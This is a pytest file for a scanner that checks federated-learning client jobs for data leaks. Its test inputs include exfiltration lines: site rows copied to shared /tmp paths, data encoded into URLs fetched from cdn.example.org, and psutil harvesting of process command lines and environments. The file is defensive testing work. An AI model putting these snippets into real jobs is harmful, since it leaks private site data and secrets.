"""Red team 57a: site data, secrets and host files leaving by a channel other than the update
(docs/redteam57a-attempts.md).

Holes closed, each accepted or only escalated on main:
- the site's rows written or copied to a fixed path in /tmp, which every job and user of the machine reads
  (file-exfiltration.data-to-shared-folder, an escalation: the site's /tmp may be private to the job);
- a text file of the job's folder named from the script's own folder (`os.path.dirname(__file__)`), which the
  admin shell's cat returns: data-to-shell-readable, as a relative path already was;
- a handle opened in place (`csv.writer(open(p, "a"))`) and `print(..., file=fh)`: writes of their file;
- a URL joined from generators, and the site's data in a URL's path segment: a reader given a remote URL sends
  it (network.data-to-network);
- psutil's process listing and command lines: secrets, as /proc/<pid>/cmdline is.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.model import Decision
from conftest import CORPUS, run_cli

SAMPLES = kit.corpus_samples("malicious/redteam57a_*", "jobs/redteam57a_*")
TWINS = kit.corpus_samples("benign/near_redteam57a_*")
EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam57a_")}


def test_samples_are_labelled():
    assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
    assert len(SAMPLES) == 13 and len(TWINS) == 5


@pytest.mark.parametrize("sample", SAMPLES)
def test_attack_is_held(sample):
    report = kit.scan_sample(sample)
    kit.assert_held(report)
    assert report.decision.value in EXPECTED[sample], kit.findings(report)


# the mkdtemp() cache escalates since red team 60b (its folder outlives the job: tests/test_redteam60b.py)
@pytest.mark.parametrize("sample", [t for t in TWINS if EXPECTED[t] == ["accept"]])
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


HEAD = "import os, csv, shutil\nimport numpy as np\nimport pandas as pd\nimport torch\n\n" \
       "df = pd.read_csv('/data/site/train.csv')\nX = torch.tensor(df.values)\nnet = torch.nn.Linear(3, 1)\n"


@pytest.mark.parametrize("line", [
    "df.to_csv('/tmp/fl_cache.csv')",
    "df.to_parquet('/tmp/nvflare/splits/site.parquet')",
    "np.save('/tmp/feat.npy', df.to_numpy())",
    "torch.save({'x': X}, '/tmp/.resume.pt')",
    "shutil.copy('/data/site/train.csv', '/tmp/.share.csv')",
    "shutil.copy2('/data/site/train.csv', '/tmp/')",
    "csv.writer(open('/tmp/m.csv', 'a')).writerows(df.values.tolist())",
    "with open('/tmp/dump.txt', 'w') as fh:\n    print(X.tolist(), file=fh)",
])
def test_site_rows_to_a_fixed_tmp_path(line, tmp_path):
    report = kit.scan_source(tmp_path, HEAD + line + "\n")
    kit.assert_held(report, rule="file-exfiltration.data-to-shared-folder")


@pytest.mark.parametrize("line", [
    "torch.save(net.state_dict(), '/tmp/fl/model.pt')",
    "with open('/tmp/fl/log.txt', 'a') as fh:\n    print('rows', len(df), file=fh)",
    "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n"
    "    np.save(os.path.join(d, 'feat.npy'), df.to_numpy())",
    "torch.save({'x': X}, 'cache/x.pt')",
])
def test_twin_model_or_private_scratch(line, tmp_path):
    # builtins.open at module level is unvouched (an escalation on main too): what counts is no file rule
    report = kit.scan_source(tmp_path, HEAD + line + "\n")
    assert not kit.holds(report, "file-exfiltration."), kit.findings(report)
    assert report.decision is not Decision.REJECT, kit.findings(report)


@pytest.mark.parametrize("line", [
    "df.head(50).to_csv(os.path.join(os.path.dirname(__file__), 'preview.csv'))",
    "with open('preview.txt', 'w') as fh:\n    print(df.head(20).to_csv(), file=fh)",
])
def test_site_rows_to_a_text_file_of_the_job_folder(line, tmp_path):
    kit.assert_held(kit.scan_source(tmp_path, HEAD + line + "\n"), rule="file-exfiltration.data-to-shell-readable")


URL_HEAD = "import numpy as np\nimport pandas as pd\n\ndf = pd.read_csv('/data/site/train.csv')\n" \
           "rows = df.values.tolist()\nPARTS = ['https://', 'cdn.example.org', '/ref.csv?']\n"


@pytest.mark.parametrize("line", [
    "pd.read_csv(''.join(p for p in PARTS) + '&'.join(f'c{i}={v}' for i, v in enumerate(rows[0])))",
    "pd.read_csv('https://cdn.example.org/ref/' + str(rows) + '.csv')",
    "np.loadtxt('https://cdn.example.org/ref/%s.txt' % ','.join(map(str, rows[0])))",
])
def test_site_data_in_a_fetched_url(line, tmp_path):
    report = kit.scan_source(tmp_path, URL_HEAD + "ref = " + line + "\n")
    kit.assert_held(report, rule="network.data-to-network", decision=Decision.REJECT)


def test_twin_url_without_site_data(tmp_path):
    report = kit.scan_source(tmp_path, URL_HEAD + "ref = pd.read_csv(''.join(p for p in PARTS) + 'v=2')\n")
    assert not kit.holds(report, "network.data-to-network"), kit.findings(report)
    assert not kit.holds(report, "network.url-reader-data"), kit.findings(report)


def test_generator_join_of_a_local_path_is_that_path(tmp_path):
    report = kit.scan_source(tmp_path, URL_HEAD.replace("'https://', 'cdn.example.org', '/ref.csv?'",
                                                        "'/data', '/site', '/ref.csv'") +
                             "ref = pd.read_csv(''.join(p for p in PARTS) + '?d=' + str(rows))\n")
    assert not kit.holds(report, "network."), kit.findings(report)


PSUTIL = kit.ClientJob(imports="import os\nimport pandas as pd\nimport psutil\nimport torch\n"
                               "import nvflare.client as flare\n")


@pytest.mark.parametrize("extra", [
    ", meta={'p': [p.info['cmdline'] for p in psutil.process_iter(['cmdline'])]}",
    ", meta={'p': ' '.join(psutil.Process(os.getppid()).cmdline())}",
    ", meta={'e': dict(psutil.Process(1).environ())}",
])
def test_process_command_lines_are_secrets(extra, tmp_path):
    decision, rules = PSUTIL.verdict(tmp_path, extra=extra)
    assert decision == "reject" and "credential-harvest.secret-in-channel" in rules, rules


def test_process_memory_is_no_secret(tmp_path):
    decision, rules = PSUTIL.verdict(tmp_path, extra=", metrics={'rss': psutil.Process().memory_info().rss}")
    assert "credential-harvest.secret-in-channel" not in rules, rules


def test_cli_escalates_the_tmp_copy_and_names_the_rule():
    out = run_cli("scan", str(CORPUS / "malicious/redteam57a_tmp_shutil_copy.py"))
    assert out.returncode != 0 and "file-exfiltration.data-to-shared-folder" in out.stdout, out.stdout + out.stderr


def _notebook(*cells: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                                  "source": c} for c in cells], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


NB_HEAD = ("import pandas as pd\nimport torch\nimport nvflare.client as flare",
           "df = pd.read_csv('/data/site/train.csv')\ndf.describe()")
NB_LOOP = "flare.init()\nnet = torch.nn.Linear(3, 1)\nwhile flare.is_running():\n    m = flare.receive()\n" \
          "    net.load_state_dict(m.params)\n    flare.send(flare.FLModel(params=net.state_dict()))"


def test_notebook_cell_copies_rows_to_tmp(tmp_path):
    cell = "# a copy for the data-loader workers\ndf.to_parquet('/tmp/nb_worker_copy.parquet')"
    report = kit.scan_files(tmp_path, {"train.ipynb": _notebook(*NB_HEAD, cell, NB_LOOP)})
    kit.assert_held(report, rule="file-exfiltration.data-to-shared-folder")


def test_notebook_twin_saves_the_model_to_tmp(tmp_path):
    cell = "torch.save(torch.nn.Linear(3, 1).state_dict(), '/tmp/nb_init.pt')"
    kit.assert_accepted(kit.scan_files(tmp_path, {"train.ipynb": _notebook(*NB_HEAD, cell, NB_LOOP)}))
